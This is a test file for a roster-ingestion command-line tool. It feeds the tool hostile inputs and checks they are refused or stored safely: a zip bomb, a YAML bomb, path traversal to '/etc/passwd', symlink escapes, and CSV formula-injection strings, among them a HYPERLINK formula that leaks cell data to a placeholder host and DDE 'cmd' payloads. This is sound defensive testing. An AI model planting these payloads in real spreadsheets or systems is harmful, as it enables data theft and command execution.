/**
 * The bad-input corpus (test/fixtures/bad/, see test/fixtures/README.md) run
 * through the real command line in-process: each hostile or broken input gets
 * the spec's behaviour — a located reject or warning, or exit 2 with ONE
 * Chinese message naming the file, no stack trace and the previous OUT_DIR
 * untouched. Big inputs (50 MB CSV, 1,048,576-row sheet) are generated here.
 */
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { strToU8, unzipSync, zipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { workbook } from "../../reports/components/xlsx.js";
import { readLimits } from "../../src/cli/cli.ts";
import { DEFAULT_LIMITS, readRows } from "../../src/read/reader.ts";
import { copyDataset, expectBuilt, huanjieInProcess, parquet, tempDir } from "../helpers/cli.ts";
import { BAD, expectRefused, tinyWithRoster } from "./helpers.ts";

const HEADER = ["乡镇", "村(社区)", "姓名", "性别", "出生年月", "政治面貌", "学历", "组织", "职务"];

/** Build into a fresh folder; expect exit 0 and return the output folder. */
async function built(dataset: string, args: string[] = []): Promise<string> {
  const out = join(tempDir(), "out");
  const r = await huanjieInProcess(["build", dataset, "--out", out, ...args]);
  expectBuilt(r);
  return out;
}

function manifestFiles(
  out: string,
): { path: string; read: number; accepted: number; rejected: number; skipped: number }[] {
  return JSON.parse(readFileSync(join(out, "manifest.json"), "utf8")).files;
}

describe("unreadable files: exit 2, one message naming the file, previous OUT_DIR untouched", () => {
  const cases: [string, RegExp][] = [
    ["truncated.xlsx", /truncated\.xlsx: 无法读取的 XLSX 文件/],
    ["garbage.xlsx", /garbage\.xlsx: 无法读取的 XLSX 文件:不是 ZIP 格式/],
    ["csv-renamed.xlsx", /csv-renamed\.xlsx: 无法读取的 XLSX 文件:不是 ZIP 格式/],
    ["old-excel.xlsx", /old-excel\.xlsx: .*旧版 \.xls/],
    ["encrypted.xlsx", /encrypted\.xlsx: .*文件已加密/],
    ["doctype.xlsx", /doctype\.xlsx: .*不支持 DOCTYPE/],
    ["huge-row-number.xlsx", /huge-row-number\.xlsx: .*行号 3000000000 无效/],
    ["utf16le-bom.csv", /utf16le-bom\.csv: 无法识别的文件编码.*UTF-16/],
    ["utf16le.csv", /utf16le\.csv: 无法识别的文件编码/],
    ["shift-jis.csv", /shift-jis\.csv: 无法识别的文件编码/],
    ["euc-kr.csv", /euc-kr\.csv: 未找到表头/],
    ["missing-name-column.csv", /missing-name-column\.csv: 第1行的表头缺少必需的列 "姓名"/],
    ["no-header.csv", /no-header\.csv: 未找到表头/],
  ];
  for (const [name, pattern] of cases) {
    it(name, async () => {
      await expectRefused(tinyWithRoster(name), pattern);
    });
  }

  it("zip-bomb.xlsx (226 KB inflating to 160 MB) over --max-unzipped-mb 16, or HUANJIE_MAX_UNZIPPED_MB", async () => {
    const d = tinyWithRoster("zip-bomb.xlsx");
    const pattern = /zip-bomb\.xlsx: 无法读取的 XLSX 文件:解压后的数据超过上限/;
    await expectRefused(d, pattern, ["--max-unzipped-mb", "16"]);
    await expectRefused(d, pattern, [], { HUANJIE_MAX_UNZIPPED_MB: "16" });
  });
});

describe("manifests: unknown keys, paths leaving the folder, YAML tricks", () => {
  const cases: [string, RegExp][] = [
    ["manifest-unknown-key.yaml", /dataset\.yaml: 有未知的键 owner/],
    ["manifest-unknown-term-key.yaml", /dataset\.yaml: terms\[0\] 中有未知的键 rosters/],
    ["manifest-unknown-file-key.yaml", /dataset\.yaml: terms\[0\]\.roster\[0\] 中有未知的键 sheets/],
    ["manifest-dotdot.yaml", /dataset\.yaml: 路径 data\/\.\.\/\.\.\/units\.csv 超出了数据集文件夹/],
    ["manifest-absolute.yaml", /dataset\.yaml: 路径 \/etc\/passwd 是绝对路径/],
    ["manifest-windows-path.yaml", /dataset\.yaml: 路径 C:\\Windows\\win\.ini 是绝对路径/],
    ["manifest-yaml-bomb.yaml", /dataset\.yaml: /],
    ["manifest-duplicate-key.yaml", /dataset\.yaml: 不是有效的 YAML/],
  ];
  for (const [name, pattern] of cases) {
    it(name, async () => {
      const d = copyDataset("tiny");
      writeFileSync(join(d, "dataset.yaml"), readFileSync(join(BAD, name)));
      await expectRefused(d, pattern);
    });
  }

  it("a symbolic link to a file outside, and a linked folder leading outside", async () => {
    const outside = tempDir();
    writeFileSync(join(outside, "secret.csv"), readFileSync(join(BAD, "mixed-eol.csv")));
    const a = copyDataset("tiny");
    symlinkSync(join(outside, "secret.csv"), join(a, "linked.csv"));
    writeFileSync(
      join(a, "dataset.yaml"),
      readFileSync(join(a, "dataset.yaml"), "utf8").replace("- roster-2021.csv", "- linked.csv"),
    );
    await expectRefused(a, /dataset\.yaml: 路径 linked\.csv 通过符号链接指向数据集文件夹以外/);
    const b = copyDataset("tiny");
    symlinkSync(outside, join(b, "sub"));
    writeFileSync(
      join(b, "dataset.yaml"),
      readFileSync(join(b, "dataset.yaml"), "utf8").replace("- roster-2021.csv", "- sub/secret.csv"),
    );
    await expectRefused(b, /dataset\.yaml: 路径 sub\/secret\.csv 通过符号链接指向数据集文件夹以外/);
  });

  it("a named pipe and a folder listed as files are not read", async () => {
    const d = tinyWithRoster("pipe.csv", "");
    execFileSync("rm", [join(d, "pipe.csv")]);
    execFileSync("mkfifo", [join(d, "pipe.csv")]);
    await expectRefused(d, /pipe\.csv: 不是普通文件/);
    const e = copyDataset("tiny");
    mkdirSync(join(e, "dir.csv"));
    writeFileSync(
      join(e, "dataset.yaml"),
      readFileSync(join(e, "dataset.yaml"), "utf8").replace("- roster-2021.csv", "- dir.csv"),
    );
    await expectRefused(e, /dir\.csv: 不是普通文件/);
  });
});

describe("files that are read, with located findings", () => {
  it("mixed-eol.csv: CRLF, LF and CR in one file, every row counted", async () => {
    const out = await built(tinyWithRoster("mixed-eol.csv"));
    expect(manifestFiles(out).find((f) => f.path === "mixed-eol.csv")).toMatchObject({
      read: 4,
      accepted: 3,
      rejected: 0,
      skipped: 1,
    });
  });

  it("duplicate-header.csv: the first 姓名 column is used, a warning names the second", async () => {
    const out = await built(tinyWithRoster("duplicate-header.csv"));
    const w = await parquet<{ source_row: number; column: string; message: string }>(
      join(out, "warnings.parquet"),
      'source_row, "column", message',
      "WHERE source_file = 'duplicate-header.csv'",
    );
    expect(w).toEqual([{ source_row: 1, column: "姓名", message: '表头"姓名"与前面的列重复,只使用第一列' }]);
    const names = await parquet<{ name: string }>(
      join(out, "members.parquet"),
      "DISTINCT name",
      "WHERE term = 2021 ORDER BY name",
    );
    expect(names.map((n) => n.name)).toEqual(["孙七", "张三", "李四"]);
  });

  it("formulas.xlsx: cached values used, one formula_cell warning per column, located", async () => {
    const out = await built(tinyWithRoster("formulas.xlsx"));
    const w = await parquet<{ sheet: string; source_row: number; column: string }>(
      join(out, "warnings.parquet"),
      'sheet, source_row, "column"',
      "WHERE rule = 'formula_cell' ORDER BY source_row",
    );
    expect(w).toEqual([
      { sheet: "花名册", source_row: 2, column: "姓名" },
      { sheet: "花名册", source_row: 3, column: "出生年月" },
    ]);
    const m = await parquet<{ name: string; birth_year: number }>(
      join(out, "members.parquet"),
      "name, birth_year",
      "WHERE term = 2021 ORDER BY source_row",
    );
    expect(m.map((x) => `${x.name} ${x.birth_year}`)).toEqual(["张三 1980", "李四 1992", "孙七 1975"]);
  });

  it("bad-entity.xlsx: a character reference to no character becomes U+FFFD instead of an internal error", async () => {
    const out = await built(tinyWithRoster("bad-entity.xlsx"));
    const m = await parquet<{ name: string }>(
      join(out, "members.parquet"),
      "name",
      "WHERE source_row = 2 AND term = 2021",
    );
    expect(m[0]?.name).toBe("张\ufffd三\ufffd");
  });

  it("formula-names.csv: formula and markup names are stored as the text they are", async () => {
    const out = await built(tinyWithRoster("formula-names.csv"));
    const m = await parquet<{ name: string }>(
      join(out, "members.parquet"),
      "name",
      "WHERE term = 2021 ORDER BY source_row",
    );
    expect(m.map((x) => x.name)).toEqual([
      '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")',
      "=cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+1+1",
      "<script>alert(1)</script>",
    ]);
  });
});

describe("limits", () => {
  it("are configurable by option and environment; bad values are refused", async () => {
    expect(readLimits({})).toEqual({});
    expect(readLimits({ HUANJIE_MAX_ROWS: "10", HUANJIE_MAX_FILE_MB: "2" }, { maxRows: 5 })).toEqual({
      maxRows: 5,
      maxFileBytes: 2 << 20,
    });
    for (const args of [
      ["--max-rows", "0"],
      ["--max-file-mb", "abc"],
      ["--max-unzipped-mb=-1"],
      ["--max-rows"],
    ]) {
      const r = await huanjieInProcess(["build", "d", "--out", "o", ...args]);
      expect(r.status, args.join(" ")).toBe(2);
      expect(r.stderr).toMatch(/^错误:--max-/);
    }
    const r = await huanjieInProcess(["build", "d", "--out", "o"], { HUANJIE_MAX_ROWS: "many" });
    expect(r.status).toBe(2);
    expect(r.stderr).toBe("错误:环境变量 HUANJIE_MAX_ROWS 应为正整数,而不是 many\n");
    const m = await huanjieInProcess(["build", "d", "--out", "o"], { HUANJIE_MEMORY_LIMIT: "lots" });
    expect(m.status).toBe(2);
    expect(m.stderr).toBe(
      "错误:环境变量 HUANJIE_MEMORY_LIMIT 应为带单位的正整数,如 2GB 或 1500MB,而不是 lots\n",
    );
  });

  it("a 50 MB CSV is read streamed and ingested under the default 512 MiB; refused over --max-file-mb 40", async () => {
    const row = `城关镇,城关村,张三,男,1980.03,群众,高中,村委会,委员,${"备".repeat(6000)}\r\n`;
    const rows = Math.ceil((50 << 20) / Buffer.byteLength(row));
    const text = `${[...HEADER, "备注"].join(",")}\r\n${Array.from({ length: rows }, (_, i) => row.replace("张三", `张${i}`)).join("")}`;
    const d = tinyWithRoster("big.csv", text);
    const path = join(d, "big.csv");
    expect(readFileSync(path).length).toBeGreaterThanOrEqual(50 << 20);
    expect(DEFAULT_LIMITS.maxFileBytes).toBe(512 << 20);

    // Streamed: reading the whole file never holds much more than one piece of it.
    global.gc?.();
    const mem = () => process.memoryUsage().heapUsed + process.memoryUsage().arrayBuffers;
    const base = mem();
    let peak = 0;
    let read = 0;
    for await (const _ of readRows(path, { displayName: "big.csv" })) {
      if (++read % 100 === 0) peak = Math.max(peak, mem() - base);
    }
    expect(read).toBe(rows + 1);
    expect(peak).toBeLessThan(40 << 20);

    await expectRefused(d, /big\.csv: 文件大小超过上限\(50\.\d MiB,上限 40\.0 MiB\)/, [
      "--max-file-mb",
      "40",
    ]);
    const out = await built(d);
    expect(manifestFiles(out).find((f) => f.path === "big.csv")).toMatchObject({
      read: rows + 1,
      accepted: rows,
    });
  }, 60_000);

  it("a sheet of 1,048,576 rows (Excel's maximum) is read under the default 2,000,000; refused over --max-rows 1000000", async () => {
    const last = 1_048_576;
    const files = unzipSync(
      workbook([
        {
          name: "S",
          rows: [HEADER, ["城关镇", "城关村", "张三", "男", "1980.03", "群众", "高中", "村委会", "委员"]],
        },
      ]),
    );
    const sheet = new TextDecoder().decode(files["xl/worksheets/sheet1.xml"]);
    // Rows 3 … 1,048,575 are blank rows without a number (one more than the previous); the last row names an unknown unit.
    const lastRow = `<row r="${last}"><c r="A${last}" t="inlineStr"><is><t>盛乐镇</t></is></c><c r="B${last}" t="inlineStr"><is><t>盛乐屯</t></is></c><c r="C${last}" t="inlineStr"><is><t>周九</t></is></c><c r="I${last}" t="inlineStr"><is><t>村委会委员</t></is></c></row>`;
    files["xl/worksheets/sheet1.xml"] = strToU8(
      sheet.replace("</sheetData>", `${"<row/>".repeat(last - 3)}${lastRow}</sheetData>`),
    );
    const d = tinyWithRoster("rows.xlsx", zipSync(files, { level: 1 }));
    expect(readFileSync(join(d, "rows.xlsx")).length).toBeLessThan(1 << 20);

    const out = await built(d);
    expect(manifestFiles(out).find((f) => f.path === "rows.xlsx")).toMatchObject({
      read: last,
      accepted: 1,
      rejected: 1,
    });
    const rejects = await parquet<{ source_row: number; rule: string }>(
      join(out, "rejects.parquet"),
      "source_row, rule",
      "WHERE source_file = 'rows.xlsx'",
    );
    expect(rejects).toEqual([{ source_row: last, rule: "unknown_unit" }]);
    await expectRefused(d, /rows\.xlsx: 工作表“S”的行数超过上限 1000000 行/, ["--max-rows", "1000000"]);
  }, 60_000);
});
